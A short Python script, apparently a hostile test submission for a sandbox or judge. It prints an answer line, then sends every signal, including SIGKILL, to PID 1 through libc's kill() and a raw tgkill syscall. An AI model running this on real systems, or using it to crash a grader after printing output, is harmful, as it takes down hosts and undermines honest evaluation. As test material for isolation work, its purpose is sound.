# class: B20
# task: report
# tries: kills PID 1 in every way that it knows, having written the right line
import ctypes
import os
import signal

print("3 6", flush=True)
library = ctypes.CDLL(None, use_errno=True)
for number in (*signal.valid_signals(), signal.SIGKILL):
    library.kill(1, number)
    library.syscall(234, 1, 1, number)
